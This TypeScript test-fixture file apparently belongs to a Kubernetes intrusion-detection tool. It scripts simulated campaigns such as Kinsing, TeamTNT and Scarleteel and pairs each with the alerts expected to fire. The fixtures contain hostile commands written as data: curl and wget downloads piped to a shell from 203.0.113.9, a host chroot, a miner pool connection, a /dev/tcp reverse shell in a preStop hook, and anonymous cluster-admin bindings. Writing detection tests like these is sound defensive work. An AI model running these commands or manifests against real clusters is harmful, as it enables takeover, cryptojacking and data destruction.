import { http } from '../../http.ts';
import { binding, node, object, ownedBy, pod, podSpec, rule, workload } from '../../objects.ts';
import { account as sa } from '../../world.ts';
import { atWork, hostPath, role, type Attack } from '../trace.ts';

const web = sa('shop', 'web');
const nobody = { groups: ['system:unauthenticated'] };

/** What was seen in campaigns against clusters. */
export const campaigns: readonly Attack[] = [
  [
    'RBAC buster: an account and a role of a controller that does not exist',
    (world) => {
      for (const path of ['/api/v1/namespaces', '/api/v1/namespaces/kube-system/secrets'])
        http(world, 'system:anonymous', `GET ${path}`, { ...nobody, code: 200 });
      world.write('system:anonymous', role('system:controller:kube-controller', [rule('*', '*', '*')]), nobody);
      world.write('system:anonymous', object('ServiceAccount', 'kube-system/kube-controller'), nobody);
      world.write(
        'system:anonymous',
        binding('ClusterRoleBinding', 'system:controller:kube-controller', 'ClusterRole/system:controller:kube-controller', [
          'ServiceAccount/kube-system/kube-controller',
        ]),
        nobody,
      );
      world.write(
        'system:anonymous',
        workload(
          'DaemonSet',
          'kube-system/kube-controller',
          podSpec('kubernetesio/kube-controller:1.0.1', { serviceAccountName: 'kube-controller' }),
        ),
        nobody,
      );
    },
    [
      'anonymous-access:critical',
      'new-admin-binding',
      'role-gains-power',
      'system-namespace-newcomer',
      'daemonset-by-new-actor',
      'attack-sequence',
    ],
    'system:anonymous',
  ],
  [
    'Dero miner: a DaemonSet with the name of a proxy',
    (world) =>
      world.write('system:anonymous', workload('DaemonSet', 'default/proxy-api', podSpec('docker.io/pauseyyf/pause:latest')), nobody),
    ['daemonset-by-new-actor', 'anonymous-access:critical'],
    'system:anonymous',
  ],
  [
    'Kinsing: a Deployment that downloads its script',
    (world) => {
      atWork(world, web);
      world.write(
        web,
        workload(
          'Deployment',
          'shop/api-gateway',
          podSpec(
            'ubuntu',
            {},
            {
              command: [
                '/bin/bash',
                '-c',
                'apt-get update && apt-get install -y wget cron; service cron start; wget -q -O - 203.0.113.9/d.sh | sh; tail -f /dev/null',
              ],
            },
          ),
        ),
      );
    },
    ['miner-or-tool'],
    web,
  ],
  [
    'TeamTNT: a pod with the file system of the host and a script from the network',
    (world) =>
      world.write(
        'eve',
        pod(
          'kube-system/kube-proxy-tnt',
          podSpec('alpine', hostPath('/'), { command: ['chroot', '/host', 'bash', '-c', 'curl http://203.0.113.9/xmr/setup.sh | bash'] }),
        ),
      ),
    ['host-takeover-pod:critical', 'miner-or-tool', 'system-namespace-newcomer:high'],
    'eve',
  ],
  [
    'TeamTNT: commands in every pod through a kubelet',
    (world) => {
      for (const name of ['a', 'b', 'c'])
        http(world, 'eve', `POST /api/v1/nodes/node-a/proxy/run/shop/${name}/main?cmd=wget+http://203.0.113.9/x`);
    },
    ['node-proxy'],
    'eve',
  ],
  [
    'Scarleteel: the account of a notebook reads Secrets of the cluster',
    (world) => {
      const notebook = sa('jupyter', 'hub');
      atWork(world, notebook);
      http(world, notebook, 'GET /api/v1/namespaces/kube-system/secrets?limit=500', {
        agent: 'kubectl/v1.24.0 (linux/amd64) kubernetes/4ce5a89',
      });
      http(world, notebook, 'GET /api/v1/namespaces/kube-system/configmaps/aws-auth', {
        agent: 'kubectl/v1.24.0 (linux/amd64) kubernetes/4ce5a89',
      });
    },
    ['secret-read'],
    sa('jupyter', 'hub'),
  ],
  [
    'aws-auth gives an own role all rights',
    (world) => {
      const one = (roles: string) => object('ConfigMap', 'kube-system/aws-auth', { data: { mapRoles: roles } });
      world.found(one('[]'));
      world.write('eve', one('[{rolearn: arn:aws:iam::1:role/x, groups: [system:masters]}]'));
    },
    ['cluster-dns-or-auth-changed:high'],
    'eve',
  ],
  [
    'a miner in a Job of a build',
    (world) => {
      const runner = sa('ci', 'gitlab-runner');
      world.usually(() => world.write(runner, pod('ci/runner-abc-project-1-concurrent-0-x7k2p', podSpec('docker.io/library/node'))));
      world.write(
        runner,
        pod(
          'ci/runner-abc-project-1-concurrent-0-q9z4d',
          podSpec('docker.io/library/node', {}, { command: ['sh', '-c', './a -o stratum+tcp://203.0.113.9:3333 -u x'] }),
        ),
      );
    },
    ['miner-or-tool'],
    sa('ci', 'gitlab-runner'),
  ],
  [
    'a miner with an innocent name, by its size',
    (world) => {
      world.usually(() =>
        world.write(
          'deployer',
          workload('Deployment', 'shop/web', podSpec('docker.io/library/nginx', {}, { resources: { requests: { cpu: '100m' } } }), {
            replicas: 2,
          }),
        ),
      );
      world.write(
        'eve',
        workload('Deployment', 'shop/cache', podSpec('docker.io/pause123/pause', {}, { resources: { requests: { cpu: '4' } } }), {
          replicas: 30,
        }),
      );
    },
    ['resource-jump', 'new-image-source'],
    'eve',
  ],
  [
    'ransom: backups, volumes and applications are deleted',
    (world) => {
      for (let index = 0; index < 12; index += 1)
        http(world, 'eve', `DELETE /apis/velero.io/v1/namespaces/velero/backups/nightly-${'abcdefghijkl'[index] ?? ''}x`);
      http(world, 'eve', 'DELETE /api/v1/persistentvolumes');
    },
    ['mass-deletion'],
    'eve',
  ],
  [
    'ransom by namespaces',
    (world) => {
      for (const name of 'alpha bravo charlie delta echo foxtrot golf hotel india juliett kilo lima'.split(' ')) {
        const namespace = object('Namespace', name);
        world.found(namespace);
        world.remove('eve', namespace);
      }
    },
    ['mass-deletion'],
    'eve',
  ],
  [
    'the dashboard is open to everybody',
    (world) =>
      world.write(
        'eve',
        object('Service', 'kubernetes-dashboard/kubernetes-dashboard', { spec: { type: 'LoadBalancer', ports: [{ port: 443 }] } }),
      ),
    ['new-exposure:high'],
    'eve',
  ],
  [
    'anonymous users may read pods',
    (world) => world.write('eve', binding('ClusterRoleBinding', 'dashboards', 'ClusterRole/view', ['User/system:anonymous'])),
    ['binding-to-everybody:critical'],
    'eve',
  ],
  [
    'a static pod of an intruder on a worker',
    (world) => {
      world.found(node('node-a', '10.0.0.1'));
      world.write(
        'system:node:node-a',
        pod('kube-system/kube-proxy-helper-node-a', podSpec('alpine', { nodeName: 'node-a', hostNetwork: true }), {
          metadata: { annotations: { 'kubernetes.io/config.mirror': 'x' }, ...ownedBy('Node', 'node-a') },
        }),
        { groups: ['system:nodes', 'system:authenticated'] },
      );
    },
    ['static-pod'],
    'system:node:node-a',
  ],
  [
    'hooks of a container fetch the second stage',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web')));
      world.write(
        'eve',
        workload(
          'Deployment',
          'shop/web',
          podSpec('web', {}, { lifecycle: { preStop: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'] } } } }),
        ),
      );
    },
    ['changed-by-new-actor', 'miner-or-tool'],
    'eve',
  ],
];
